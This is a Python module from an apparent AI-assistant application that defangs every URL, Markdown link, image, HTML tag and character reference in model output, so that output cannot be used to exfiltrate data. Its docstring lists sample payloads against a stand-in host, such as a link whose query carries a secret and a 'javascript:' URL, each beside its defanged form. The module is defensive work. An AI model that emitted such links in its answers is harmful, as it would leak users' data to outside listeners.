"""Model output is data: no URL a writer wrote (the model, an article it quotes) can be a link.

A link a reader clicks can carry data out (`[click](https://listener/?d=secret)`, OWASP LLM02),
and an image loads by itself. In an answer or a brief the only live links are the cited
sources' own URLs, which code writes from the references (`render.render_reference`, the HTML
export's reference lines, the sources panel's button). Every other URL is defanged here, in
the Answer itself, so every output shows the same inert text: the page, the CLI's Markdown
and `--json`, saved conversations and briefs, and the Markdown, HTML and PDF exports. It is
done where an Answer is made (`assemble`, and `research.fold` for a brief) and where a saved
one is read back (the conversation history, the research store: saved before this existed).

Why defang the text rather than escape it for one renderer: backslash escapes do not stop
GitHub-flavoured auto-linking (Streamlit links `https\\://a\\.b` and `www.a.b` all the same),
an inline code span stops Markdown but not the HTML export's reader or a PDF viewer, which
link any `https://…` or `www.…` they see, and both would show escapes or backticks in the
exports. The threat-report convention reads as what it is and no linkifier recognises it:

    https://evil.example/x?d=1     ->  https[:]//evil[.]example/x?d=1
    www.evil.example/p             ->  www[.]evil[.]example/p
    javascript:alert(1)            ->  javascript[:]alert(1)
    bob@evil.example               ->  bob@evil[.]example     (Markdown links e-mail addresses)
    [click](https://evil.example)  ->  click (https[:]//evil[.]example)
    ![img](https://evil.example/i.png) -> img (https[:]//evil[.]example/i.png)
    [1]: https://evil.example      ->  [1] : https[:]//evil[.]example  (else every [1] links)
    <https://…>, <img src=…>       ->  https[:]//…, < img src=…  (text, never a link or a tag)
    &#104;ttps://…                 ->  https[:]//…  (character references decoded first)

Only the scheme's colon and the host's dots change: the path and query stay as written, and a
bare name without a path ("Amazon.com") is left alone (GitHub's Markdown does not link it, and
it names a company more often than a server). Defanging is idempotent, so text that is already
safe passes through unchanged.
"""

from __future__ import annotations

import html
import re
from collections.abc import Callable

from assistant.answer.model import Answer, Flag, Reference, Section

# A Markdown link or image: [text](destination "title"); the destination may hold one level of
# parentheses or be written in <angle brackets>.
_LINK = re.compile(
    r"!?\[([^\[\]\n]*)\]\(\s*"
    r"(<[^<>\n]*>|[^()\s]*(?:\([^()\s]*\)[^()\s]*)*)"
    r"(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^()\n]*\)))?\s*\)"
)
# What survives the above (a nested or broken link): "](" with a space is never a link.
_LINK_TARGET = re.compile(r"\]\(")
# A reference definition, "[label]: destination" (also inside a quotation or a list), which
# would turn every "[label]" into a link, a citation marker too: a space before the colon
# makes it text.
_DEFINITION = re.compile(r"\]:")
# A character reference ("&#104;ttps", "https&colon;//"), which a Markdown renderer decodes
# before it auto-links: decoded first, so what it spells is defanged like the rest.
_CHAR_REF = re.compile(r"&(?:#\d{1,7}|#[xX][0-9a-fA-F]{1,6}|[A-Za-z][A-Za-z0-9]{1,31});")
# An autolink, <scheme:…> or <www.…>: the brackets go, the URL is defanged below.
_AUTOLINK = re.compile(r"<((?:[a-z][a-z0-9+.-]{1,31}:|www\.)[^\s<>]*)>", re.I)
# The start of an HTML tag: a space after "<" makes it text in every Markdown renderer.
_TAG = re.compile(r"<(?=[a-z/!?])", re.I)
# A scheme: the web's (also without slashes: browsers read "https:evil.example" as a URL),
# those that run or send something, and any other before "://". The look-behinds are ASCII,
# as GitHub's Markdown's are: "数据https://a.b" is a link there, "News:" is no scheme.
_SCHEME = re.compile(
    r"(?<![A-Za-z0-9+.-])"
    r"(https?|javascript|vbscript|mailto(?=:\S)|xmpp(?=:\S)|data(?=:[a-z]+/)"
    r"|[a-z][a-z0-9+.-]{1,31}(?=://)):"
    r"(/*)([^\s/?#<>\"'`()\[\]\\|]*)",
    re.I,
)
_HOST_DOT = re.compile(r"\.(?=[\w-])")
_DOTTED = r"[\w-]+(?:\.[\w-]+)+"
# A host with no scheme: protocol-relative ("//host"), an e-mail address's, "www.host", or a
# bare name with a top-level domain followed by a path, query or port (which fuzzy linkifiers
# and PDF viewers link: "evil.example/x?d=1").
_BARE_HOST = re.compile(
    rf"(?:(?<![A-Za-z0-9:/\]])//|(?<=@))({_DOTTED})"
    r"|(?<![A-Za-z0-9.@/_-])(www\.[\w-]+(?:\.[\w-]+)*)"
    r"|(?<![A-Za-z0-9.@/_-])((?:[\w-]+\.)+[a-z]{2,63})(?=[/?#]|:\d)",
    re.I,
)


def defang(text: str) -> str:
    """Writer text with every link, image, tag and URL made plain, readable text."""
    if not text:
        return text
    text = _CHAR_REF.sub(_character, text)
    text = _LINK.sub(_unwrap, text)
    text = _LINK_TARGET.sub("] (", text)
    text = _DEFINITION.sub("] :", text)
    text = _AUTOLINK.sub(r"\1", text)
    text = _TAG.sub("< ", text)
    text = _SCHEME.sub(_scheme, text)
    return _BARE_HOST.sub(_bare_host, text)


def _character(reference: re.Match[str]) -> str:
    """The character a reference stands for; "&" stays a reference (decoding it would make a
    new reference of the text after it), as do references to no character."""
    char = html.unescape(reference.group(0))
    if "&" in char or len(char) > 2 or not all(c.isprintable() or c.isspace() for c in char):
        return reference.group(0)  # also a name HTML reads only as a prefix ("&notit;")
    return char


def _unwrap(link: re.Match[str]) -> str:
    label, target = link.group(1).strip(), link.group(2).strip("<>").strip()
    if not target or target == label:
        return label or target
    return f"{label} ({target})" if label else target


def _scheme(found: re.Match[str]) -> str:
    scheme, slashes, host = found.groups()
    return f"{scheme}[:]{slashes}{_dots(host)}"


def _bare_host(found: re.Match[str]) -> str:
    whole, host = found.group(0), next(g for g in found.groups() if g)
    return whole[: len(whole) - len(host)] + _dots(host)


def _dots(host: str) -> str:
    """The dots between a host's labels bracketed; a sentence's full stop after it stays."""
    return _HOST_DOT.sub("[.]", host)


def defang_sections(sections: tuple[Section, ...]) -> tuple[Section, ...]:
    """Headings and text of sections and their subsections, defanged."""
    return tuple(
        section.model_copy(
            update={
                "heading": defang(section.heading),
                "text": defang(section.text),
                "subsections": defang_sections(section.subsections),
            }
        )
        for section in sections
    )


def defang_answer(answer: Answer) -> Answer:
    """The Answer with everything a writer or an article wrote defanged: title, sections,
    flags, and the references' titles, sources and passages. A reference's own `url` stays:
    it is the one link an answer may carry, and code renders it."""
    return answer.model_copy(
        update={
            "title": defang(answer.title),
            "sections": defang_sections(answer.sections),
            "flags": tuple(_flag(f) for f in answer.flags),
            "references": tuple(_reference(r) for r in answer.references),
        }
    )


def _flag(flag: Flag) -> Flag:
    return flag.model_copy(
        update={
            "message": defang(flag.message),
            "sentence": _maybe(defang, flag.sentence),
            "source_value": _maybe(defang, flag.source_value),
        }
    )


def _reference(reference: Reference) -> Reference:
    passages = tuple(
        p.model_copy(update={"text": defang(p.text), "section": defang(p.section)})
        for p in reference.passages
    )
    source = defang(reference.source)
    return reference.model_copy(
        update={
            "title": defang(reference.title),
            # unchanged, the [0] line keeps the data it was worded from (`Worded`)
            "source": reference.source if source == reference.source else source,
            "passages": passages,
        }
    )


def _maybe(change: Callable[[str], str], text: str | None) -> str | None:
    return None if text is None else change(text)
